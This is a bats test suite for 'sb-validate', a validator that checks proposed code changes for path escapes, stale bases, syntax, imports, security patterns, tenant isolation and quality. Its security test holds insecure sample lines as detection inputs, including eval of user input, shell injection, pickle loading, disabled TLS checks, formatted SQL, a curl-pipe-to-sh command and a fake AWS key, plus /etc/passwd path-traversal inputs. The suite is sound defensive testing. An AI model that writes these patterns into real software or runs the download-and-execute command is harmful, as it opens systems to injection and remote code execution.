#!/usr/bin/env bats
# sb-validate on hand-written change records against the sample component
# test/fixtures/components/shop: each check failing and passing.

setup() {
	load test_helper/common
	cp -r "$FIXTURES/components/shop" shop
	cat >c.json <<EOF
{"components": {"shop": {"path": "$PWD/shop", "tenant": "acme"}, "other": {"path": "$PWD/shop", "tenant": "globex"}},
 "tenant_tables": ["orders", "invoices"]}
EOF
	export SB_CONFIG=$PWD/c.json SB_STATE_DIR=$PWD/state
}

# change FILE-JSON...: a change record for component shop with these files
change() {
	local IFS=,
	printf '{"type":"change","id":"c1","component":"shop","provider":"rules","files":[%s]}\n' "$*"
}

# modify PATH CONTENT: a modify entry made against the current file
modify() {
	jq -cn --arg p "$1" --arg c "$2" --arg b "$(sha256sum "shop/$1" | cut -d' ' -f1)" \
		'{path: $p, action: "modify", content: $c, base_sha256: $b}'
}

create() {
	jq -cn --arg p "$1" --arg c "$2" '{path: $p, action: "create", content: $c}'
}

# check NAME [FILE]: the checks of that name in $output, compact
check() {
	jq -c --arg n "$1" '.validation.checks[] | select(.name == $n) | [.ok, .file, .line, .message]' <<<"$output"
}

failed() {
	jq -c '[.validation.checks[] | select(.ok == false) | .name] | unique' <<<"$output"
}

@test "a clean change passes every check and is written with its validation" {
	change "$(modify config.json "$(jq '.http.timeout_ms = 3000' shop/config.json)")" \
		"$(create src/util.py $'import os\nimport json\n\n\ndef double(x):\n    return 2 * x\n')" >in.ndjson
	run -0 sb-validate in.ndjson
	assert_equal "$(jq -c '[.type, .id, .validation.ok]' <<<"$output")" '["change","c1",true]'
	assert_equal "$(failed)" '[]'
	assert_equal "$(jq -c '.validation.checks | map(.name) | unique' <<<"$output")" \
		'["base","imports","path","quality","security","size","syntax","text"]'
	assert_regex "$(jq -r .validation.digest <<<"$output")" '^[0-9a-f]{64}$'
	assert_equal "$(jq -c '.validation.metrics | [.files, .lines_added, .lines_removed]' <<<"$output")" '[2,8,2]'
}

@test "path: .., absolute, .git, a symlink out of the component, a special file" {
	ln -s /etc shop/etc-link
	mkfifo shop/fifo
	for p in ../x.py /etc/passwd .git/config sub/../../x etc-link/passwd fifo; do
		change "$(create "$p" 'x = 1\n')" >in.ndjson
		run -1 sb-validate in.ndjson
		assert_equal "$(failed)" '["path"]'
	done
	assert_regex "$(check path)" 'a device or special file'
	change "$(create sub/.git/hooks/x 'x')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'under .git/'
	# A file named twice, a delete that carries content, a create that claims a base.
	change "$(create a.txt x)" "$(create ./a.txt y)" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'named twice in the change'
	change '{"path":"config.json","action":"delete","content":"x","base_sha256":"00"}' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'a delete carries no content'
	change '{"path":"n.txt","action":"create","content":"x","base_sha256":"00"}' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'a create has no base_sha256'
}

@test "base: a stale change (the file changed since) is refused, naming the file; create over an existing file too" {
	change "$(modify config.json '{}')" >in.ndjson
	echo ' ' >>shop/config.json
	run -1 sb-validate in.ndjson
	assert_equal "$(failed)" '["base"]'
	assert_regex "$(check base)" '"config.json",null,"stale: the file changed since the change was made'
	change "$(create config.json '{}')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check base)" 'to be created, but it exists'
	change '{"path":"nosuch.py","action":"delete","base_sha256":"00"}' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check base)" 'does not exist'
}

@test "size and text: caps on file size and number of files; UTF-8 text only" {
	change "$(create big.txt "$(head -c 2000 /dev/zero | tr '\0' a)")" >in.ndjson
	run -1 sb-validate --max-file-bytes 1000 in.ndjson
	assert_equal "$(failed)" '["size"]'
	change "$(create a.txt x)" "$(create b.txt y)" "$(create c.txt z)" >in.ndjson
	run -1 sb-validate --max-files 2 in.ndjson
	assert_regex "$(check size)" '3 files, more than --max-files 2'
	change '{"path":"bin.txt","action":"create","content":"a\u0000b"}' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_equal "$(failed)" '["text"]'
}

@test "syntax: Python, shell, C, JavaScript and JSON errors are found, with the line; other files are skipped" {
	change "$(create src/bad.py $'def f(:\n    pass\n')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_equal "$(failed)" '["syntax"]'
	assert_equal "$(jq -c '.validation.checks[] | select(.name == "syntax") | [.ok, .line]' <<<"$output")" '[false,1]'
	change "$(create run.sh $'#!/bin/sh\nif true; then\n')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check syntax)" 'bash -n'
	change "$(create x.c $'int main(void) { return 0 }\n')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check syntax)" 'cc -fsyntax-only'
	if command -v node >/dev/null; then
		change "$(create x.js $'function (\n')" >in.ndjson
		run -1 sb-validate in.ndjson
		assert_regex "$(check syntax)" 'node --check'
	fi
	change "$(modify config.json '{"a":')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check syntax)" 'JSON'
	change "$(create NOTES.md '# notes')" >in.ndjson
	run -0 sb-validate in.ndjson
	assert_equal "$(jq -c '.validation.checks[] | select(.name == "syntax") | [.ok, .skipped]' <<<"$output")" '[null,true]'
	# The good ones pass.
	change "$(create x.c $'int main(void) { return 0; }\n')" "$(create run.sh $'#!/bin/sh\necho ok\n')" >in.ndjson
	run -0 sb-validate in.ndjson
}

@test "syntax: a missing checker is skipped with its name, never a pass" {
	mkdir bin
	for t in jq sha256sum; do ln -s "$(command -v $t)" bin/; done
	ln -s "$(command -v sb-validate)" bin/
	change "$(create src/ok.py 'x = 1\n')" >in.ndjson
	PATH=$PWD/bin run -0 sb-validate in.ndjson
	assert_equal "$(jq -c '.validation.checks[] | select(.name == "syntax") | [.ok, .skipped, .message]' <<<"$output")" \
		'[null,true,"skipped: python3 is not installed"]'
}

@test "generated code is never run: a Python file that would write a file only gets compiled, even named py_compile.py" {
	change "$(create src/boom.py "open('$PWD/ran', 'w').write('x')")" "$(create py_compile.py "open('$PWD/ran2', 'w').write('x')")" >in.ndjson
	run -0 sb-validate in.ndjson
	[ ! -e ran ] && [ ! -e ran2 ]
}

@test "imports: the standard library, the component and declared dependencies resolve; others do not" {
	echo 'requests>=2' >shop/requirements.txt
	echo 'PyYAML==6' >>shop/requirements.txt
	change "$(create src/x.py $'import os, json\nimport requests\nimport yaml\nfrom app import x\nfrom . import y\nimport nosuchmodule\n')" >in.ndjson
	run -1 sb-validate in.ndjson
	assert_equal "$(failed)" '["imports"]'
	assert_equal "$(jq -c '.validation.checks[] | select(.name == "imports") | [.line, .message]' <<<"$output")" \
		'[6,"module nosuchmodule is not in the standard library, the component or its declared dependencies"]'
}

@test "security: each rule on the lines the change adds, with file and line; --allow waives it, audited" {
	while IFS='|' read -r rule code; do
		change "$(create "src/s.py" "$(printf 'x = 1\n%b\n' "$code")")" >in.ndjson
		run -1 sb-validate in.ndjson
		assert_equal "$(failed)" '["security"]'
		assert_equal "$(jq -c '[.validation.checks[] | select(.name == "security" and .ok == false) | select(.message | startswith("'"$rule"':")) | [.file, .line]]' <<<"$output")" \
			'[["src/s.py",2]]'
	done <<'EOF'
eval|eval(user_input)
shell|import os; os.system("ls " + name)
deserialization|import pickle; pickle.loads(data)
tls|requests.get(url, verify=False)
sql|cur.execute("SELECT * FROM users WHERE name = '%s'" % name)
permissions|os.chmod(path, 0o777)
pipe-to-shell|os.system("curl -s https://x.example/i.sh | sh")
secret|KEY = "AKIAABCDEFGHIJKLMNOP"
EOF
	change "$(create src/s.py 'eval(x)')" >in.ndjson
	run -0 sb-validate --allow eval in.ndjson
	assert_regex "$(check security)" 'waived by --allow eval'
	run -0 jq -c 'select(.action == "validate.waiver") | [.rule, .change, .file, .line]' state/audit.ndjson
	assert_output '["eval","c1","src/s.py",1]'
	# A finding on a line the change does not touch is not this change's doing.
	printf 'x = eval("1")\ny = 2\n' >shop/src/old.py
	change "$(modify src/old.py $'x = eval("1")\ny = 3\n')" >in.ndjson
	run -0 sb-validate in.ndjson
}

@test "tenant: SQL on tenant tables filters by tenant_id; no literal of another tenant" {
	change "$(create src/q.py $'def f(cur, t):\n    cur.execute("SELECT * FROM orders WHERE id = %s", (1,))\n')" |
		jq -c '.tenant = "acme"' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_equal "$(failed)" '["tenant"]'
	change "$(create src/q.py $'def f(cur, t):\n    cur.execute("SELECT * FROM orders WHERE tenant_id = %s", (t,))\n')" |
		jq -c '.tenant = "acme"' >in.ndjson
	run -0 sb-validate in.ndjson
	change "$(create src/q.py $'OWNER = "globex"\n')" | jq -c '.tenant = "acme"' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check tenant)" 'globex'
	# Without a tenant, the tenant check does not apply.
	change "$(create src/q.py $'OWNER = "globex"\n')" >in.ndjson
	run -0 sb-validate in.ndjson
	assert_equal "$(check tenant)" ''
}

@test "quality: the longest function and the complexity against their thresholds; lines changed" {
	body=$'def f(x):\n'
	for i in $(seq 1 30); do body+=$'    if x == '"$i"$':\n        return '"$i"$'\n'; done
	change "$(create src/q.py "$body")" >in.ndjson
	run -1 sb-validate --max-complexity 10 in.ndjson
	assert_equal "$(failed)" '["quality"]'
	assert_regex "$(check quality)" 'complexity of 3[01], more than 10'
	run -1 sb-validate --max-function-lines 20 in.ndjson
	assert_regex "$(check quality)" 'function f is 61 lines long, more than 20'
	run -1 sb-validate --max-lines-changed 10 in.ndjson
	assert_regex "$(check quality)" 'lines changed, more than --max-lines-changed 10'
	run -0 sb-validate --max-complexity 100 in.ndjson
	assert_equal "$(jq -c '.validation.metrics | [.longest_function, .max_complexity >= 30]' <<<"$output")" '[61,true]'
}

@test "the digest: the same change gives the same digest; one byte changed gives another" {
	change "$(create a.txt hello)" >a.ndjson
	change "$(create a.txt hellp)" >b.ndjson
	jq -c '.rationale = "other words" | .files[0] |= {content, action, path}' a.ndjson >c.ndjson
	d1=$(sb-validate a.ndjson | jq -r .validation.digest)
	d2=$(sb-validate a.ndjson | jq -r .validation.digest)
	d3=$(sb-validate b.ndjson | jq -r .validation.digest)
	d4=$(sb-validate c.ndjson | jq -r .validation.digest)
	assert_equal "$d1" "$d2"
	assert_equal "$d1" "$d4"
	[ "$d1" != "$d3" ]
	# Where it goes counts too: another component or tenant is another digest.
	d5=$(jq -c '.tenant = "acme"' a.ndjson | sb-validate | jq -r .validation.digest)
	[ "$d1" != "$d5" ]
}

@test "--only-valid and --rejects; exit 1 when any change failed; other records forwarded" {
	{ echo '{"type":"opportunity","id":"o1"}'; change "$(create a.txt ok)"; change "$(create ../x bad)" | jq -c '.id = "c2"'; } >in.ndjson
	run -1 sb-validate --only-valid --rejects rej.ndjson in.ndjson
	assert_equal "$(jq -c '[.type, .id]' <<<"$output")" '["opportunity","o1"]
["change","c1"]'
	assert_equal "$(jq -c '[.id, .validation.ok]' rej.ndjson)" '["c2",false]'
	run -1 sb-validate in.ndjson
	assert_equal "$(jq -c 'select(.type == "change") | [.id, .validation.ok]' <<<"$output")" '["c1",true]
["c2",false]'
}

@test "malformed changes and usage errors" {
	printf '%s\n' '{"type":"change","id":"x"}' 'nope' >bad.ndjson
	run -0 --separate-stderr sb-validate bad.ndjson
	assert_regex "$stderr" 'bad.ndjson:1: change has no "files" array'
	assert_regex "$stderr" 'bad.ndjson:2: invalid JSON'
	run -3 sb-validate --on-error fail bad.ndjson
	change '{"path":"a.txt"}' >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'needs a path, an action'
	jq -c '.component = "nowhere"' <(change "$(create a.txt x)") >in.ndjson
	run -1 sb-validate in.ndjson
	assert_regex "$(check path)" 'no path in the configuration'
	run -2 sb-validate --check-timeout 0
	run -2 sb-validate --max-files x
	run -2 sb-validate --allow evil
}

@test "--check-timeout: a checker that hangs is stopped and the check fails" {
	mkdir fake
	printf '#!/bin/sh\nsleep 20\n' >fake/python3
	chmod +x fake/python3
	change "$(create src/ok.py 'x = 1\n')" >in.ndjson
	start=$(date +%s)
	PATH=$PWD/fake:$PATH run -1 sb-validate --check-timeout 1s in.ndjson
	[ $(($(date +%s) - start)) -lt 10 ]
	assert_regex "$(check syntax)" 'python3 -m py_compile took longer than --check-timeout'
}
